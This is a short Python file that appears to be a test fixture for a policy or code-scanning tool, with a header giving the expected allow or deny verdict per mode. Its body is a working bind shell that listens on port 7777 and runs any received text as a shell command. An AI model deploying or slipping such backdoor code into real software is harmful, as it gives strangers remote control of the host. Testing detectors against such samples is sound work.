# expect: strict=deny standard=deny audit=allow
import socket
import subprocess

srv = socket.socket()
srv.bind(("0.0.0.0", 7777))
srv.listen(1)
conn, _ = srv.accept()
while True:
    cmd = conn.recv(4096).decode().strip()
    if not cmd:
        break
    conn.sendall(subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT))
